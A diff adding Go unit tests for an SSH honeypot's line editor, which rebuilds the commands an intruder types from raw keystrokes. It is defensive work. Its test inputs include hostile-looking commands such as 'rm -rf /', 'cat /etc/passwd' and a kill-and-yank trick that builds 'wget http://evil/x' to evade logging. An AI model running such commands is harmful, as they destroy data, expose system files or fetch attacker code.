@@ -0,0 +1,163 @@
+package sshhipot
+
+/*
+ * lineedit_test.go
+ * Tests for reconstructing typed commands
+ * By J. Stuart McMurray
+ * Created 20261018
+ * Last Modified 20261018
+ */
+
+import (
+	"fmt"
+	"testing"
+)
+
+/* testLineEditor returns a LineEditor and a pointer to the lines it's
+emitted */
+func testLineEditor() (*LineEditor, *[]string) {
+	var ls []string
+	return NewLineEditor(true, func(l string) { ls = append(ls, l) }), &ls
+}
+
+func TestLineEditorKeys(t *testing.T) {
+	for _, c := range []struct {
+		in   string
+		want []string
+	}{
+		{"ls\r", []string{"ls"}},
+		{"ls\n\r\r", []string{"ls"}},
+		{"lx\x7fs\r", []string{"ls"}},
+		{"lx\bs\r", []string{"ls"}},
+		{"abc\x1b[D\x1b[DX\r", []string{"aXbc"}},
+		{"abc\x1bOD\x1bODX\x1bOCY\r", []string{"aXbYc"}},
+		{"bc\x01a\x05d\r", []string{"abcd"}},
+		{"bc\x1b[Ha\x1b[Fd\r", []string{"abcd"}},
+		{"bc\x1b[1~a\x1b[4~d\r", []string{"abcd"}},
+		{"ac\x02b\x06d\r", []string{"abcd"}},
+		{"abc\x01\x04\r", []string{"bc"}},
+		{"abc\x01\x1b[3~\r", []string{"bc"}},
+		{"foo bar\x02\x02\x02\x15baz\r", []string{"bazbar"}},
+		{"foo bar\x01\x06\x06\x06\x0b\r", []string{"foo"}},
+		{"rm -rf /tmp  \x17\r", []string{"rm -rf "}},
+		{"rm -rf /\x03ls\r", []string{"ls"}},
+		{"ls\x0c\r", []string{"ls"}},
+		{"\x1b[200~ls -la\x1b[201~\r", []string{"ls -la"}},
+		{"one\rtwo\r\x1b[A\x1b[A\r", []string{"one", "two", "one"}},
+		{"one\rtwo\r\x10\x10\x0e\r", []string{"one", "two", "two"}},
+		{"one\rone\r\x10\x10\r", []string{"one", "one", "one"}},
+		{"one\r\x10\x10\x10X\r", []string{"one", "oneX"}},
+		{"one\r\x10\x0ethree\r", []string{"one", "three"}},
+		{"one\r\x10\x03\x10\r", []string{"one", "one"}},
+		{"caf\xc3\xa9\x7f\xc3\xa8\r", []string{"cafè"}},
+	} {
+		/* Feed it all at once as well as a byte at a time */
+		for _, n := range []int{len(c.in), 1} {
+			e, got := testLineEditor()
+			for b := []byte(c.in); 0 != len(b); b = b[n:] {
+				e.Input(b[:n])
+			}
+			if fmt.Sprintf("%q", *got) !=
+				fmt.Sprintf("%q", c.want) {
+				t.Errorf(
+					"%q (%v): got %q, want %q",
+					c.in,
+					n,
+					*got,
+					c.want,
+				)
+			}
+			if e.Unsure() {
+				t.Errorf("%q (%v): unsure", c.in, n)
+			}
+		}
+	}
+}
+
+func TestLineEditorCompletion(t *testing.T) {
+	e, got := testLineEditor()
+	e.Input([]byte("cat /etc/pas\t"))
+	e.Output([]byte("swd "))
+	e.Input([]byte("\r"))
+
+	/* A list of possibilities isn't a completion */
+	e.Input([]byte("ls /etc/p\t"))
+	e.Output([]byte("\a\r\npasswd  profile\r\n$ ls /etc/p"))
+	e.Input([]byte("r\t"))
+	e.Output([]byte("ofile"))
+	e.Input([]byte("\r"))
+
+	/* Nor is output without a tab */
+	e.Input([]byte("id"))
+	e.Output([]byte("foo"))
+	e.Input([]byte("\r"))
+
+	want := []string{"cat /etc/passwd ", "ls /etc/profile", "id"}
+	if fmt.Sprintf("%q", *got) != fmt.Sprintf("%q", want) {
+		t.Errorf("Got %q, want %q", *got, want)
+	}
+}
+
+func TestLineEditorDisabled(t *testing.T) {
+	var got []string
+	e := NewLineEditor(false, func(l string) { got = append(got, l) })
+	e.Input([]byte("password\r"))
+	if l, ok := e.Line(); ok || "" != l || 0 != len(got) {
+		t.Errorf("Disabled editor saw %q and emitted %q", l, got)
+	}
+	e.Enable()
+	e.Input([]byte("ls"))
+	if l, ok := e.Line(); !ok || "ls" != l {
+		t.Errorf("Enabled editor has line %q (%v)", l, ok)
+	}
+	e.Input([]byte("\r"))
+	if 1 != len(got) || "ls" != got[0] {
+		t.Errorf("Enabled editor emitted %q", got)
+	}
+}
+
+func TestLineEditorUnsure(t *testing.T) {
+	for _, c := range []struct {
+		in     string
+		unsure bool
+	}{
+		{"ls", false},
+		{"ls\x19", true},         /* Ctrl+Y, yank */
+		{"ls\x12", true},         /* Ctrl+R, reverse search */
+		{"ls\x14", true},         /* Ctrl+T, transpose */
+		{"ls\x1b.", true},        /* Alt+., last argument */
+		{"ls\x1bb", true},        /* Alt+B, back a word */
+		{"ls\x1b[5~", true},      /* Page Up */
+		{"ls\x1b[1;5D", true},    /* Ctrl+Left */
+		{"ls\x19\x03", false},    /* Ctrl+C starts afresh */
+		{"ls\x19\r", false},      /* As does Enter */
+		{"ls\x19\rid", false},    /* Once the line's done */
+		{"ls\x19\r\x1b[A", true}, /* But not for history */
+		{"ls\x19\rid\r\x10", false},
+		{"ls\x19\rid\r\x10\x10", true},
+		{"ls\x19\rid\r\x10\x10\x0e", true},
+	} {
+		e, _ := testLineEditor()
+		e.Input([]byte(c.in))
+		if got := e.Unsure(); got != c.unsure {
+			t.Errorf("%q: unsure %v, want %v", c.in, got, c.unsure)
+		}
+	}
+}
+
+/* TestLineEditorBypass checks that killing and yanking a command back, which
+makes the shell see a different line than the LineEditor, is noticed. */
+func TestLineEditorBypass(t *testing.T) {
+	e, got := testLineEditor()
+	e.Input([]byte("wget\x17\x19 http://evil/x"))
+	if l, _ := e.Line(); " http://evil/x" != l {
+		t.Fatalf("Unexpected line %q", l)
+	}
+	if !e.Unsure() {
+		t.Errorf("Yanked line not unsure")
+	}
+	e.Input([]byte("\r"))
+	if 1 != len(*got) {
+		t.Fatalf("Emitted %q", *got)
+	}
+}